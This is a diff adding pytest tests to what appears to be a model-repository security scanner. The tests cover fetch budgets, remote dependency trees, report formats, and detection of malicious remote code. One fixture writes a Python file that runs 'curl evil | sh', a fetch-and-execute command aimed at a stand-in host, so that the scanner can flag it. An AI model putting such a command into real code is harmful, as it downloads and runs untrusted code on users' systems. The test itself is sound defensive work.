@@ -15,6 +15,7 @@ from safetensors.numpy import save_file
 from modelshield import api
 from modelshield.cli import main
 from modelshield.core.report import FileResult, Report
+from modelshield.core.rules import Severity
 from modelshield.sources import RemoteInputError
 from tests.sources.conftest import FIXTURES, model_requests
 from tests.sources.hubserver import HubServer
@@ -282,3 +283,48 @@ def test_any_https_file_is_read_by_ranges_or_whole(hub: HubServer, tmp_path: Pat
     assert ranged.files[0].path == whole.files[0].path == url
     assert [f.rule_id for f in ranged.findings] == [f.rule_id for f in whole.findings]
     assert whole.files[0].remote is not None and whole.files[0].remote["bytes_fetched"] == whole.files[0].size
+
+
+def test_budget_passed_while_reading_by_ranges_fails_closed(hub: HubServer, tmp_path: Path) -> None:
+    hub.add_repo("org/model", _repo(tmp_path))
+    report = api.scan("hf://org/model/pytorch_model.bin", cache=False, max_fetch_bytes=4096)
+    assert "SCN005" in [f.rule_id for f in report.findings] and report.exit_code == 1
+    assert report.files[0].remote is not None and report.files[0].remote["bytes_fetched"] <= 2 * 4096 + 4096
+
+
+def test_deps_command_shows_the_remote_tree(hub: HubServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    base_commit = hub.add_repo("org/base", _repo(tmp_path))
+    hub.add_repo("org/adapter", _adapter(tmp_path, "org/base"))
+    assert main(["deps", "--format", "json", "--no-cache", "hf://org/adapter"]) == 1
+    doc = json.loads(capsys.readouterr().out)
+    nodes = {n["ref"]: n for n in doc["dependencies"]["nodes"]}
+    assert nodes["org/base"]["resolution"] == "remote" and nodes["org/base"]["path"] == f"hf://org/base@{base_commit}"
+    assert nodes["org/base"]["verdict"] == "critical"
+
+
+def test_remote_code_in_another_repository_is_fetched_and_analysed(hub: HubServer, tmp_path: Path) -> None:
+    code = tmp_path / "code"
+    code.mkdir()
+    (code / "modeling_x.py").write_text("import subprocess\nsubprocess.run(['sh', '-c', 'curl evil | sh'])\n")
+    (code / "config.json").write_text(json.dumps({"model_type": "x"}))
+    model = tmp_path / "model"
+    model.mkdir()
+    (model / "config.json").write_text(
+        json.dumps({"model_type": "x", "auto_map": {"AutoModel": "org/code--modeling_x.XModel"}})
+    )
+    code_commit = hub.add_repo("org/code", code)
+    commit = hub.add_repo("org/model", model)
+    report = api.scan("hf://org/model", cache=False)
+    analysed = [f for f in report.findings if f.rule_id == "DEP001" and f.level >= Severity.HIGH]
+    assert analysed and analysed[0].location.path == f"hf://org/code@{code_commit}/modeling_x.py"
+    chain = [f for f in report.findings if f.rule_id == "DEP004"]
+    assert chain and chain[0].location.path == f"hf://org/model@{commit}/config.json"
+
+
+@pytest.mark.parametrize("form", ["sarif", "text"])
+def test_other_report_formats_render_remote_paths(
+    hub: HubServer, tmp_path: Path, capsys: pytest.CaptureFixture[str], form: str
+) -> None:
+    commit = hub.add_repo("org/model", _repo(tmp_path))
+    assert main(["scan", "--no-cache", "-f", form, "hf://org/model"]) == 1
+    assert f"org/model@{commit}/pytorch_model.bin" in capsys.readouterr().out
